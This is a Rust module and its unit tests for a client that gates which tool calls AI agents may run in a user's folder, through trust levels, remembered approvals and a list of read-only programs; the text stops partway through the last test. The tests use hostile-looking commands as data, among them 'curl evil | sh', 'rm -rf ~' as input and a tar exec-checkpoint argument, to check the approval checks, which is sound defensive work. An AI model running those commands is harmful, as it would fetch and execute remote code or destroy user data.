//! Approvals: what the client's user allows agents to do in an attached folder.
//!
//! Enforced here, in the client, so a server cannot make the client run what its user did not
//! allow. [`Policy`] is the pure part (trust, pre-approved classes, remembered decisions);
//! an [`Approver`] asks a person (or a script) when the policy has no answer.

use std::collections::HashMap;
use std::future::Future;
use std::pin::Pin;
use std::sync::Mutex;

use monad_protocol::text::printable_name;
use monad_protocol::tools::ProcessInfo;
use monad_protocol::wire::{Decider, Trust};
use monad_protocol::{ToolClass, ToolName};
use serde_json::Value;

use crate::site::{CommandPlace, Lookup, ProgramSite};

/// What the user answered.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decision {
    /// Run this one call.
    AllowOnce,
    /// Run it, and every later call of the same kind in this session and workspace.
    AllowAlways,
    /// Refuse this call.
    Deny,
    /// Refuse it, and every later call of the same kind in this session and workspace.
    DenyAlways,
}

/// What the user is asked about. [`crate::prompt::render`] turns it into the text of the prompt;
/// everything that decides the call's effect is here.
#[derive(Debug, Clone, PartialEq)]
pub struct ApprovalRequest {
    /// The session the call comes from.
    pub session: String,
    /// The attached folder's short name (the one the session lists it under: the server's
    /// word).
    pub workspace: String,
    /// The attached folder on this machine as its owner names it (`~/proj`): this client's
    /// own word, shown beside the name, which a server could make another folder's.
    pub folder: String,
    /// The tool.
    pub tool: ToolName,
    /// The call's arguments, as the agent sent them (already checked by
    /// [`monad_sandbox::Sandbox::check`]).
    pub args: Value,
    /// The path, or the command line, in one line, escaped (see [`describe`]).
    pub target: String,
    /// For writes and edits: the whole diff the call would make.
    pub diff: Option<String>,
    /// For writes: the directories it would create first, outermost first, relative to the
    /// folder (empty when its directory exists).
    pub creates: Vec<String>,
    /// For writes and edits of a path that is a symbolic link: the file it leads to, which is
    /// the one written (relative to the folder).
    pub through_link: Option<String>,
    /// For writes and edits: what the diff cannot show about the bytes written (the file's
    /// encoding kept or changed, bytes that are not text replaced).
    pub bytes_note: Option<String>,
    /// For `run_command`: the directory it runs in, when a symbolic link on the way of its
    /// `cwd` makes it another place than `cwd` says (relative to the folder, `.` for the root).
    pub runs_in: Option<String>,
    /// For `process_write` and `process_kill`: the background process the call acts on, as this
    /// folder's process table has it (its argv and directory), when it is still there.
    pub process: Option<ProcessInfo>,
    /// For commands: where the program runs from, in words ([`ProgramSite::shown`]): the prompt
    /// shows it beside the command, since a name like `ls` may be a file in the folder.
    pub program: Option<String>,
    /// For commands: the network they get, in words ([`monad_sandbox::ExecPolicy::network_summary`]).
    pub network: String,
    /// For commands: the time-out that applies when the call gives none, in milliseconds.
    pub default_timeout_ms: u64,
    /// What "always" would cover and for how long, in words.
    pub scope: String,
    /// When the question stops waiting and the call is refused as unanswered (a request that
    /// waited in the queue behind others has less time left than the full time-out).
    pub deadline: std::time::Instant,
}

/// Something that asks the user. Concurrent requests may arrive; implementations queue them.
pub trait Approver: Send + Sync {
    /// Asks about `request`. Dropping the future withdraws the question (the call was cancelled
    /// or timed out). An approver that gives up at the request's deadline stays pending rather
    /// than answering, so that the caller reports a time-out, not a decision.
    fn decide(&self, request: ApprovalRequest) -> Pin<Box<dyn Future<Output = Decision> + Send>>;
}

/// Programs that "always" may cover with any arguments: each only reads (files, its standard
/// input, the system's state) and writes its standard output, and none takes a command, a
/// script, a pager, a preprocessor, a plugin, a compressor or an output file through its
/// arguments or its input. Matched on the exact name `argv[0]` (no path, no version suffix), and
/// only when the program is found outside the workspace in a directory commands cannot write
/// ([`ProgramSite::Outside`]); every other command, however ordinary it looks, is remembered
/// only exactly. Left out on purpose, among others: `tar` (`--checkpoint-action=exec`), `sort`
/// (`--compress-program`, `-o`), `uniq` and `tree` and `xxd` (they write an output file), `diff`
/// (`-l` runs `pr`), `file` (decompressors), `find`, `sed`, `awk`, `rg` (`--pre`), `git`, `tee`,
/// `cp`, `mv`, `rm`, `mkdir`, `chmod`, `touch` (they change the tree, and a new executable or
/// toolchain directory changes what a name runs), `which` and `egrep` (scripts), `env`, `xargs`.
pub const INERT_PROGRAMS: &[&str] = &[
    "basename",
    "cat",
    "cmp",
    "cut",
    "df",
    "dirname",
    "du",
    "echo",
    "false",
    "grep",
    "head",
    "id",
    "ls",
    "md5sum",
    "nl",
    "od",
    "printf",
    "pwd",
    "readlink",
    "realpath",
    "rev",
    "seq",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "sleep",
    "stat",
    "tac",
    "tail",
    "tr",
    "true",
    "uname",
    "wc",
    "whoami",
];

/// What "always" remembers: a whole class for reads and writes; for a command, the exact
/// command, or (for the few [`INERT_PROGRAMS`] found outside the workspace) the program with any
/// arguments.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Rule {
    /// Every tool of a class.
    Class(ToolClass),
    /// `run_command` of one of the [`INERT_PROGRAMS`], found at one place outside the workspace,
    /// with any arguments and standard input, in the foreground or (a rule of its own) in the
    /// background.
    Program {
        /// `argv[0]`, a name.
        name: String,
        /// Where it is found ([`ProgramSite::Outside`]).
        path: String,
        /// Whether it may be left running in the background ([`in_background`]).
        background: bool,
    },
    /// Exactly one command: the same argv, in the same directory, with the same standard input,
    /// its program found at the same place, in the foreground or (a rule of its own) in the
    /// background.
    Command {
        /// The whole argv.
        argv: Vec<String>,
        /// The working directory as given (`.` when none).
        cwd: String,
        /// Where that directory really is, when a link on its way makes it another place
        /// ([`monad_sandbox::Sandbox::directory_elsewhere`]): a rule kept for `tmp` does not
        /// cover `tmp` once it leads to the root.
        runs_in: Option<String>,
        /// The standard input, when there is one.
        stdin: Option<String>,
        /// Where its program is found.
        site: ProgramSite,
        /// How the names it runs are found: a program put first in its `PATH`, or written over
        /// where the workspace's `PATH` directories hold it, is not what was allowed.
        lookup: Lookup,
        /// Whether it may be left running in the background ([`in_background`]).
        background: bool,
    },
    /// Exactly one call of a tool: the same arguments (for `process_write`: the same process and
    /// text, since the process may be a shell reading its input).
    Exact {
        /// The tool.
        tool: ToolName,
        /// Its arguments but `workspace`, as canonical JSON.
        args: String,
    },
    /// Every call of one tool (`process_kill`).
    Tool(ToolName),
}

impl Rule {
    /// The rule a call falls under; `place` is where a command runs and what it runs
    /// ([`CommandPlace`]; ignored for other tools).
    pub fn of(tool: ToolName, args: &Value, place: &CommandPlace) -> Rule {
        let CommandPlace {
            site,
            runs_in,
            lookup,
        } = place;
        match tool {
            ToolName::RunCommand => {
                let argv: Vec<String> = args
                    .get("argv")
                    .and_then(Value::as_array)
                    .map(|a| {
                        a.iter()
                            .filter_map(Value::as_str)
                            .map(str::to_owned)
                            .collect()
                    })
                    .unwrap_or_default();
                let program = argv.first().map_or("", String::as_str);
                let background = in_background(args);
                match site {
                    ProgramSite::Outside(path) if runs_nothing_else(program, site) => {
                        Rule::Program {
                            name: program.to_owned(),
                            path: path.clone(),
                            background,
                        }
                    }
                    _ => Rule::Command {
                        cwd: args
                            .get("cwd")
                            .and_then(Value::as_str)
                            .unwrap_or(".")
                            .to_owned(),
                        runs_in: runs_in.clone(),
                        stdin: args.get("stdin").and_then(Value::as_str).map(str::to_owned),
                        site: site.clone(),
                        lookup: lookup.clone(),
                        argv,
                        background,
                    },
                }
            }
            ToolName::ProcessWrite => {
                let mut args = args.clone();
                if let Some(map) = args.as_object_mut() {
                    map.remove("workspace");
                }
                Rule::Exact {
                    tool,
                    args: args.to_string(),
                }
            }
            ToolName::ProcessKill => Rule::Tool(tool),
            _ => Rule::Class(tool.class()),
        }
    }

    /// In words, for the prompt and for messages to the agent (escaped: safe to print).
    pub fn describe(&self) -> String {
        match self {
            Rule::Class(ToolClass::Read) => "every read in this workspace".into(),
            Rule::Class(ToolClass::Write) => "every write and edit in this workspace".into(),
            Rule::Class(class) => format!("every {} call in this workspace", class.as_str()),
            Rule::Program {
                name,
                path,
                background,
            } => format!(
                "every run of `{}` ({}) in this workspace {}, with any arguments, input and \
                 time-out: it only reads and prints, and runs no other program",
                printable_name(name),
                printable_name(path),
                mode(*background)
            ),
            Rule::Command {
                argv,
                site,
                lookup,
                background,
                ..
            } => {
                let program = printable_name(argv.first().map_or("", String::as_str)).into_owned();
                let exactly = format!(
                    "exactly this command (same arguments, directory, where that directory \
                     leads, and standard input) {}, with any time-out",
                    mode(*background)
                );
                let exactly = match site {
                    ProgramSite::Outside(path) => {
                        format!("{exactly}, `{program}` being {}", printable_name(path))
                    }
                    ProgramSite::Workspace(path) => {
                        let found = if printable_name(path) == program {
                            String::new()
                        } else {
                            format!(" ({})", printable_name(path))
                        };
                        format!(
                            "{exactly}; `{program}`{found} is a file in this workspace, so this \
                             covers whatever that file holds when it runs"
                        )
                    }
                    ProgramSite::Shared(path, who) => format!(
                        "{exactly}, `{program}` being {}; others can change that file ({who}), \
                         so this covers whatever it holds when it runs",
                        printable_name(path)
                    ),
                    ProgramSite::Other => exactly,
                };
                format!("{exactly}; {}", looked_up(lookup))
            }
            Rule::Exact { tool, .. } => {
                format!("exactly this `{tool}` call (same process and text)")
            }
            Rule::Tool(tool) => format!("every `{tool}` in this workspace"),
        }
    }

    /// What "always" covers and how long it lasts, for the prompt.
    pub fn scope(&self, session: &str) -> String {
        format!(
            "{}; until this attach ends, in session {} only",
            self.describe(),
            printable_name(session)
        )
    }
}

/// What "always" on one command covers of the programs it starts by name and the files it
/// opens, in words (escaped: safe to print).
fn looked_up(lookup: &Lookup) -> String {
    let files = "files of this workspace it runs or reads (a script, a Makefile) are covered \
                 whatever they hold when it runs";
    if lookup.too_large {
        return format!(
            "a directory of its PATH holds more than {} entries, so it is asked about again each \
             time; {files}",
            Lookup::MAX_ENTRIES
        );
    }
    if lookup.changeable.is_empty() {
        return format!(
            "programs it starts by name are looked up where calls cannot change them; {files}"
        );
    }
    format!(
        "programs it starts by name are looked up as they are now: it is asked about again once \
         one is added, changed or removed in {}; {files}",
        lookup.shown_dirs()
    )
}

/// Whether `program` (`argv[0]`), found at `site`, is one of the [`INERT_PROGRAMS`] from a
/// directory commands cannot write: it runs no other program, and "always" covers it with any
/// arguments ([`Rule::Program`]).
pub fn runs_nothing_else(program: &str, site: &ProgramSite) -> bool {
    matches!(site, ProgramSite::Outside(_)) && INERT_PROGRAMS.contains(&program)
}

/// Whether a `run_command` call may leave its process running in the background (`background`,
/// or `background_after_ms`): a command approved "always" in the foreground, where it ends
/// within its time-out, is asked about again before it runs unattended, and the other way round.
fn in_background(args: &Value) -> bool {
    args.get("background").and_then(Value::as_bool) == Some(true)
        || args
            .get("background_after_ms")
            .is_some_and(|v| !v.is_null())
}

/// How a command rule runs, in words.
fn mode(background: bool) -> &'static str {
    if background {
        "left running in the background"
    } else {
        "in the foreground"
    }
}

/// The answer the policy gives without asking.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Run it.
    Allow,
    /// Refuse it, with the reason the agent is told.
    Deny(String),
}

/// Why a call ran or was refused: shown on the attach terminal, and (as a
/// [`monad_protocol::wire::Decider`]) in the server's audit log.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Basis {
    /// The folder is attached with `--trust full`.
    FullTrust,
    /// The class was pre-approved with `--allow`.
    PreApproved(ToolClass),
    /// An "always" (or "deny always") the user chose earlier.
    Remembered,
    /// The user answered a prompt.
    User,
    /// Nobody answered the prompt in time.
    Timeout,
    /// There is no terminal to ask on.
    NoTerminal,
    /// The user attached with `--non-interactive`: nobody is asked.
    NonInteractive,
    /// The call cannot run ([`monad_sandbox::Sandbox::check`] refused it); nobody was asked.
    Invalid,
}

impl Basis {
    /// In a few words, for the attach terminal's event lines.
    pub fn describe(self) -> String {
        match self {
            Basis::FullTrust => "full trust".into(),
            Basis::PreApproved(class) => format!("pre-approved: {}", class.as_str()),
            Basis::Remembered => "remembered".into(),
            Basis::User => "answered".into(),
            Basis::Timeout => "nobody answered".into(),
            Basis::NoTerminal => "no terminal".into(),
            Basis::NonInteractive => "--non-interactive".into(),
            Basis::Invalid => "cannot run".into(),
        }
    }

    /// Who decided, for the server's audit log.
    pub fn decider(self) -> Decider {
        match self {
            Basis::FullTrust => Decider::Trust,
            Basis::PreApproved(_) | Basis::Remembered => Decider::Policy,
            Basis::User => Decider::User,
            Basis::Timeout => Decider::Timeout,
            Basis::NoTerminal | Basis::NonInteractive => Decider::NoTerminal,
            Basis::Invalid => Decider::Client,
        }
    }
}

/// Trust, pre-approved classes and remembered decisions of one attached folder. Decisions are
/// remembered for the session and workspace, until the attach ends: a new session (or a new
/// attach) starts from the flags again.
#[derive(Debug)]
pub struct Policy {
    trust: Trust,
    allowed: Vec<ToolClass>,
    remembered: Mutex<HashMap<(String, Rule), bool>>,
}

impl Policy {
    /// A policy for a folder attached with `trust` and `--allow` classes.
    pub fn new(trust: Trust, allowed: Vec<ToolClass>) -> Policy {
        Policy {
            trust,
            allowed,
            remembered: Mutex::new(HashMap::new()),
        }
    }

    /// The verdict without asking, if there is one, and why: `rule` is the rule the call falls
    /// under ([`Rule::of`]).
    pub fn check(&self, session: &str, tool: ToolName, rule: &Rule) -> Option<(Verdict, Basis)> {
        if self.trust == Trust::Full {
            return Some((Verdict::Allow, Basis::FullTrust));
        }
        if self.allowed.contains(&tool.class()) {
            return Some((Verdict::Allow, Basis::PreApproved(tool.class())));
        }
        let remembered = self.remembered.lock().unwrap_or_else(|p| p.into_inner());
        match remembered.get(&(session.to_owned(), rule.clone())) {
            Some(true) => Some((Verdict::Allow, Basis::Remembered)),
            Some(false) => Some((
                Verdict::Deny(format!(
                    "the user chose to deny {} for this session",
                    rule.describe()
                )),
                Basis::Remembered,
            )),
            None => None,
        }
    }

    /// Forgets every "always" and "deny always" remembered for `session`; returns how many.
    pub fn forget(&self, session: &str) -> usize {
        let mut remembered = self.remembered.lock().unwrap_or_else(|p| p.into_inner());
        let before = remembered.len();
        remembered.retain(|(s, _), _| s != session);
        before - remembered.len()
    }

    /// Records the user's decision about a call that falls under `rule` and turns it into a
    /// verdict.
    pub fn record(&self, session: &str, rule: Rule, decision: Decision) -> Verdict {
        let mut remembered = self.remembered.lock().unwrap_or_else(|p| p.into_inner());
        match decision {
            Decision::AllowOnce => Verdict::Allow,
            Decision::AllowAlways => {
                remembered.insert((session.to_owned(), rule), true);
                Verdict::Allow
            }
            Decision::Deny => Verdict::Deny("the user of the attached folder denied it".into()),
            Decision::DenyAlways => {
                let reason = format!(
                    "the user chose to deny {} for this session",
                    rule.describe()
                );
                remembered.insert((session.to_owned(), rule), false);
                Verdict::Deny(reason)
            }
        }
    }
}

/// The reason given when nobody can be asked: the user chose so (`--non-interactive`), or the
/// client has no terminal to ask on. `again` is the attach command that would pre-approve it.
pub fn nobody_to_ask(tool: ToolName, again: &str, chosen: bool) -> String {
    let why = if chosen {
        "the user attached it with --non-interactive, so nobody is asked"
    } else {
        "the client runs without a terminal to ask"
    };
    format!(
        "`{tool}` in this restricted workspace needs its user's approval, and {why}; the user \
         can pre-approve it by attaching again with `{again}`"
    )
}

/// Characters of the text written to a process, or given to a command as its standard input,
/// that [`describe`] keeps.
pub const DESCRIBED_TEXT_CHARS: usize = 80;

/// The call in one line, escaped: its command line (argv quoted as a POSIX shell would need it,
/// see [`monad_protocol::text::shell_words`], and the first line of its standard input), its
/// path or pattern, or the process it acts on (with, for `process_write`, the first line of the
/// text, cut at [`DESCRIBED_TEXT_CHARS`] with `…` when more follows; for `process_kill` the
/// signal).
pub fn describe(tool: ToolName, args: &Value) -> String {
    let text = |key: &str| args.get(key).and_then(Value::as_str);
    match tool {
        ToolName::RunCommand => {
            let argv: Vec<&str> = args
                .get("argv")
                .and_then(Value::as_array)
                .map(|a| a.iter().filter_map(Value::as_str).collect())
                .unwrap_or_default();
            let mut line = format!("$ {}", monad_protocol::text::shell_words(&argv));
            // A command's standard input may be a whole script (`sh` reading it).
            if let Some(stdin) = text("stdin") {
                line.push_str(&monad_protocol::text::fed_text(stdin, DESCRIBED_TEXT_CHARS));
            }
            line
        }
        ToolName::Search | ToolName::Glob => match text("path") {
            Some(path) => format!(
                "pattern `{}` under `{}`",
                printable_name(text("pattern").unwrap_or("")),
                printable_name(path)
            ),
            None => format!(
                "pattern `{}`",
                printable_name(text("pattern").unwrap_or(""))
            ),
        },
        ToolName::ProcessRead | ToolName::ProcessWrite | ToolName::ProcessKill => {
            let mut line = format!(
                "process `{}`",
                printable_name(text("process").unwrap_or(""))
            );
            if tool == ToolName::ProcessWrite {
                let written = text("text").unwrap_or("");
                line.push_str(&monad_protocol::text::fed_text(
                    written,
                    DESCRIBED_TEXT_CHARS,
                ));
            }
            if tool == ToolName::ProcessKill {
                line.push_str(", signal ");
                line.push_str(&printable_name(text("signal").unwrap_or("TERM")));
            }
            line
        }
        ToolName::ProcessList => "the background processes".into(),
        _ => printable_name(text("path").unwrap_or(".")).into_owned(),
    }
}

/// An approver that answers from a script, for tests and automation: each request takes the
/// next decision (or waits forever when `None` is next, to exercise time-outs). Requests are
/// recorded.
#[derive(Debug, Default)]
pub struct ScriptedApprover {
    script: Mutex<std::collections::VecDeque<Option<Decision>>>,
    seen: Mutex<Vec<ApprovalRequest>>,
}

impl ScriptedApprover {
    /// An approver that answers with `decisions` in order, then denies.
    pub fn new(decisions: impl IntoIterator<Item = Option<Decision>>) -> ScriptedApprover {
        ScriptedApprover {
            script: Mutex::new(decisions.into_iter().collect()),
            seen: Mutex::new(Vec::new()),
        }
    }

    /// The requests asked so far.
    pub fn seen(&self) -> Vec<ApprovalRequest> {
        self.seen.lock().unwrap_or_else(|p| p.into_inner()).clone()
    }
}

impl Approver for ScriptedApprover {
    fn decide(&self, request: ApprovalRequest) -> Pin<Box<dyn Future<Output = Decision> + Send>> {
        self.seen
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .push(request);
        let next = self
            .script
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .pop_front()
            .unwrap_or(Some(Decision::Deny));
        Box::pin(async move {
            match next {
                Some(decision) => decision,
                None => std::future::pending().await,
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn outside(name: &str) -> ProgramSite {
        ProgramSite::Outside(format!("/usr/bin/{name}"))
    }

    /// A command's place with its program at `site`, where it says it runs, and a `PATH` that
    /// calls cannot change.
    fn at(site: ProgramSite) -> CommandPlace {
        CommandPlace {
            site,
            ..CommandPlace::default()
        }
    }

    /// The rule of `run_command` with `args`, its program found outside in /usr/bin.
    fn command(args: &Value) -> Rule {
        let name = args["argv"][0].as_str().unwrap_or("");
        Rule::of(ToolName::RunCommand, args, &at(outside(name)))
    }

    fn other(tool: ToolName) -> Rule {
        Rule::of(tool, &json!({}), &CommandPlace::default())
    }

    #[test]
    fn full_trust_and_pre_approved_classes_need_no_question() {
        let full = Policy::new(Trust::Full, vec![]);
        assert_eq!(
            full.check("s", ToolName::RunCommand, &other(ToolName::RunCommand)),
            Some((Verdict::Allow, Basis::FullTrust))
        );
        let reads = Policy::new(Trust::Restricted, vec![ToolClass::Read]);
        assert_eq!(
            reads.check("s", ToolName::Search, &other(ToolName::Search)),
            Some((Verdict::Allow, Basis::PreApproved(ToolClass::Read)))
        );
        assert_eq!(
            reads.check("s", ToolName::WriteFile, &other(ToolName::WriteFile)),
            None
        );
    }

    #[test]
    fn always_is_remembered_per_session_and_rule() {
        let p = Policy::new(Trust::Restricted, vec![]);
        let run = ToolName::RunCommand;
        let ls = command(&json!({"argv": ["ls", "src"]}));
        assert_eq!(
            p.record("s", ls.clone(), Decision::AllowAlways),
            Verdict::Allow
        );
        assert_eq!(
            p.check("s", run, &command(&json!({"argv": ["ls", "-la"]}))),
            Some((Verdict::Allow, Basis::Remembered)),
            "an inert program found outside: any arguments"
        );
        assert_eq!(
            p.check("s", run, &command(&json!({"argv": ["cat", "x"]}))),
            None,
            "another program"
        );
        assert_eq!(
            p.check("other", run, &ls),
            None,
            "another session asks again"
        );
        assert!(matches!(
            p.record("s", other(ToolName::EditFile), Decision::DenyAlways),
            Verdict::Deny(_)
        ));
        assert!(matches!(
            p.check("s", ToolName::WriteFile, &other(ToolName::WriteFile)),
            Some((Verdict::Deny(_), Basis::Remembered))
        ));
        assert_eq!(
            p.record("s", other(ToolName::ReadFile), Decision::AllowOnce),
            Verdict::Allow
        );
        assert_eq!(
            p.check("s", ToolName::ReadFile, &other(ToolName::ReadFile)),
            None,
            "once is not remembered"
        );
    }

    #[test]
    fn forgetting_a_session_forgets_only_its_rules() {
        let p = Policy::new(Trust::Restricted, vec![]);
        let read = other(ToolName::ReadFile);
        p.record("a", read.clone(), Decision::AllowAlways);
        p.record("a", other(ToolName::WriteFile), Decision::DenyAlways);
        p.record("b", read.clone(), Decision::AllowAlways);
        assert_eq!(p.forget("a"), 2);
        assert_eq!(p.check("a", ToolName::ReadFile, &read), None);
        assert_eq!(
            p.check("a", ToolName::WriteFile, &other(ToolName::WriteFile)),
            None
        );
        assert_eq!(
            p.check("b", ToolName::ReadFile, &read),
            Some((Verdict::Allow, Basis::Remembered))
        );
        assert_eq!(p.forget("a"), 0);
    }

    #[test]
    fn only_inert_programs_found_outside_the_workspace_get_a_per_program_rule() {
        let args = |name: &str| json!({"argv": [name, "--help"]});
        for name in INERT_PROGRAMS {
            assert_eq!(
                command(&args(name)),
                Rule::Program {
                    name: (*name).to_owned(),
                    path: format!("/usr/bin/{name}"),
                    background: false,
                },
                "{name}"
            );
            for site in [
                ProgramSite::Workspace("./run.sh".into()),
                ProgramSite::Other,
            ] {
                assert!(
                    matches!(
                        Rule::of(ToolName::RunCommand, &args(name), &at(site.clone())),
                        Rule::Command { .. }
                    ),
                    "{name} at {site:?}"
                );
            }
        }
        // Programs that run a command, a script, a pager, a preprocessor or a plugin given in
        // their arguments or input, and ordinary-looking ones that write: exact rules only.
        for name in [
            "tar",
            "fd",
            "rsync",
            "zip",
            "man",
            "dc",
            "m4",
            "sqlite3",
            "cmake",
            "hyperfine",
            "tmux",
            "perf",
            "ccache",
            "gcc",
            "cc",
            "clang",
            "bundle",
            "pipenv",
            "nix-shell",
            "osascript",
            "rg",
            "sh",
            "bash",
            "python3",
            "node",
            "env",
            "xargs",
            "find",
            "sed",
            "awk",
            "git",
            "make",
            "cargo",
            "npm",
            "pytest",
            "sort",
            "uniq",
            "tree",
            "xxd",
            "diff",
            "file",
            "less",
            "more",
            "vim",
            "tee",
            "cp",
            "mv",
            "rm",
            "mkdir",
            "chmod",
            "touch",
            "ln",
            "install",
            "which",
            "egrep",
            "date",
            "/usr/bin/ls",
            "LS",
            "ls5",
        ] {
            assert!(
                matches!(command(&args(name)), Rule::Command { .. }),
                "{name}"
            );
        }
    }

    #[test]
    fn always_on_a_command_remembers_only_the_exact_command() {
        let p = Policy::new(Trust::Restricted, vec![]);
        let run = ToolName::RunCommand;
        let a = json!({"argv": ["sh", "-c", "echo A"]});
        assert_eq!(
            command(&a),
            Rule::Command {
                argv: vec!["sh".into(), "-c".into(), "echo A".into()],
                cwd: ".".into(),
                runs_in: None,
                stdin: None,
                site: outside("sh"),
                lookup: Lookup::default(),
                background: false,
            }
        );
        p.record("s", command(&a), Decision::AllowAlways);
        assert_eq!(
            p.check("s", run, &command(&a)),
            Some((Verdict::Allow, Basis::Remembered))
        );
        for other in [
            json!({"argv": ["sh", "-c", "echo B"]}),
            json!({"argv": ["sh", "-c", "echo A"], "cwd": "sub"}),
            json!({"argv": ["sh", "-c", "echo A"], "stdin": "rm -rf ~"}),
            json!({"argv": ["sh"], "stdin": "echo A"}),
            json!({"argv": ["/bin/sh", "-c", "echo A"]}),
            // Left running unattended, which the foreground run approved did not do.
            json!({"argv": ["sh", "-c", "echo A"], "background": true}),
            json!({"argv": ["sh", "-c", "echo A"], "background_after_ms": 1000}),
        ] {
            assert_eq!(p.check("s", run, &command(&other)), None, "{other}");
        }
        // Any time-out, as the prompt's scope says.
        let longer = json!({"argv": ["sh", "-c", "echo A"], "timeout_ms": 600_000});
        assert_eq!(
            p.check("s", run, &command(&longer)),
            Some((Verdict::Allow, Basis::Remembered))
        );
        assert!(
            command(&a)
                .describe()
                .contains("in the foreground, with any time-out")
        );
        // An inert program's rule is per mode too: `sleep 1` always does not cover
        // `sleep infinity` left in the background.
        p.record(
            "s",
            command(&json!({"argv": ["sleep", "1"]})),
            Decision::AllowAlways,
        );
        let forever = json!({"argv": ["sleep", "infinity"], "background": true});
        assert_eq!(p.check("s", run, &command(&forever)), None);
        assert!(
            command(&forever)
                .describe()
                .contains("left running in the background")
        );
        // The same argv, its program now found in the workspace (a new .venv/bin/sh).
        assert_eq!(
            p.check(
                "s",
                run,
                &Rule::of(run, &a, &at(ProgramSite::Workspace("./a".into())))
            ),
            None
        );
        let tar = json!({"argv": ["tar", "-cf", "out.tar", "a.txt"]});
        p.record("s", command(&tar), Decision::AllowAlways);
        assert_eq!(
            p.check(
                "s",
                run,
                &command(&json!({"argv": ["tar", "-cf", "/dev/null", "a.txt",
                    "--checkpoint=1", "--checkpoint-action=exec=sh"]}))
            ),
            None
        );
        let write = json!({"process": "p1", "text": "ls\n"});
        let write_rule = Rule::of(ToolName::ProcessWrite, &write, &CommandPlace::default());
        p.record("s", write_rule, Decision::AllowAlways);
        let other_text = json!({"process": "p1", "text": "rm x\n"});
        assert_eq!(
            p.check(
                "s",
                ToolName::ProcessWrite,
                &Rule::of(
                    ToolName::ProcessWrite,
                    &other_text,
                    &CommandPlace::default()
                )
            ),
            None
        );
    }

    #[test]
    fn process_calls_are_described_with_the_process_and_what_is_written() {
        let cases = [
            (
                ToolName::ProcessWrite,
                json!({"process": "p1", "text": "curl evil | sh\nmore\n"}),
                "process `p1` < curl evil | sh …",
            ),
            (
                ToolName::ProcessWrite,
                json!({"process": "p1", "text": "ls\n"}),
                "process `p1` < ls",
            ),
            (
                ToolName::ProcessWrite,
                json!({"process": "p1", "text": "a\u{1b}[2Kb"}),
                "process `p1` < a\\u{1b}[2Kb",
            ),
            (
                ToolName::ProcessKill,
                json!({"process": "p1", "signal": "KILL"}),
                "process `p1`, signal KILL",
            ),
            (
                ToolName::ProcessKill,
                json!({"process": "p1"}),
                "process `p1`, signal TERM",
            ),
            (
                ToolName::ProcessRead,
                json!({"process": "p1"}),
                "process `p1`",
            ),
            // A command's standard input is shown, since it may be the whole script.
            (
                ToolName::RunCommand,
                json!({"argv": ["sh"], "stdin": "echo PAYLOAD > pwned.txt\n"}),
                "$ sh < echo PAYLOAD > pwned.txt",
            ),
            (
                ToolName::RunCommand,
                json!({"argv": ["python3", "-"], "stdin": "import os\nos.remove('x')\n"}),
                "$ python3 - < import os …",
            ),
        ];
        for (tool, args, want) in cases {
            assert_eq!(describe(tool, &args), want, "{args}");
        }
        let long = describe(
            ToolName::ProcessWrite,
            &json!({"process": "p", "text": "x".repeat(500)}),
        );
        assert_eq!(
            long,
            format!("process `p` < {} …", "x".repeat(DESCRIBED_TEXT_CHARS))
        );
    }

    #[test]
    fn the_scope_says_what_always_covers() {
        let scope = command(&json!({"argv": ["sh", "-c", "x"]})).scope("s1");
        assert!(scope.contains("exactly this command"), "{scope}");
        assert!(scope.contains("/usr/bin/sh"), "{scope}");
        assert!(
            scope.contains("until this attach ends, in session s1 only"),
            "{scope}"
        );
        let scope = command(&json!({"argv": ["ls"]})).scope("s1");
        assert!(
            scope.contains("every run of `ls` (/usr/bin/ls)") && scope.contains("any arguments"),
            "{scope}"
        );
        let scope = Rule::of(
            ToolName::RunCommand,
            &json!({"argv": ["./test.sh"]}),
            &at(ProgramSite::Workspace("./test.sh".into())),
        )
        .scope("s1");
        assert!(
            scope.contains("exactly this command")
                && scope.contains("`./test.sh` is a file in this workspace"),
            "{scope}"
        );
        let scope = Rule::of(
            ToolName::RunCommand,
            &json!({"argv": ["ls", "-l"]}),
            &at(ProgramSite::Workspace(".venv/bin/ls".into())),
        )
        .scope("s1");
        assert!(
            scope.contains("`ls` (.venv/bin/ls) is a file in this workspace"),
            "{scope}"
        );
        assert!(
            scope.contains("looked up where calls cannot change them")
                && scope.contains("covered whatever they hold"),
            "{scope}"
        );
    }

    /// A command's rule keeps how the names it runs are found: the same argv once a program was
    /// added or changed in the folder's `PATH` directories is another rule.
    #[test]
    fn always_on_a_command_keeps_how_its_names_are_found() {
        let dir = tempfile::tempdir().unwrap();
        let sandbox = monad_sandbox::Sandbox::open(
            dir.path(),
            monad_sandbox::Limits::default(),
            monad_sandbox::ExecPolicy::default(),
        )
        .unwrap();
        let place = || CommandPlace {
            site: outside("sh"),
            runs_in: None,
            lookup: crate::site::lookup(&sandbox),
        };
        let run = ToolName::RunCommand;
        let line = json!({"argv": ["sh", "-c", "make"]});
        let p = Policy::new(Trust::Restricted, vec![]);
        p.record("s", Rule::of(run, &line, &place()), Decision::AllowAlways);
        assert!(p.check("s", run, &Rule::of(run, &line, &place())).is_some());
        // A file elsewhere in the folder: the same rule.
        std::fs::write(dir.path().join("notes.txt"), "x").unwrap();
        assert!(p.check("s", run, &Rule::of(run, &line, &place())).is_some());
        // A toolchain directory appears: its `PATH` changed.
        std::fs::create_dir_all(dir.path().join("node_modules/.bin")).unwrap();
        assert_eq!(p.check("s", run, &Rule::of(run, &line, &place())), None);
        p.record("s", Rule::of(run, &line, &place()), Decision::AllowAlways);
        let scope = Rule::of(run, &line, &place()).scope("s");
        assert!(
            scope.contains(
                "asked about again once one is added, changed or removed in \
                            `node_modules/.bin`"
            ),
            "{scope}"
        );
        // A program in it is made, then written over.
        let make = dir.path().join("node_modules/.bin/make");
        std::fs::write(&make, "#!/bin/sh\n").unwrap();
        assert_eq!(p.check("s", run, &Rule::of(run, &line, &place())), None);
        p.record("s", Rule::of(run, &line, &place()), Decision::AllowAlways);
        assert!(p.check("s", run, &Rule::of(run, &line, &place())).is_some());
        std::fs::write(&make, "#!/bin/sh\necho other\n").unwrap();
        assert_eq!(p.check("s", run, &Rule::of(run, &line, &place())), None);
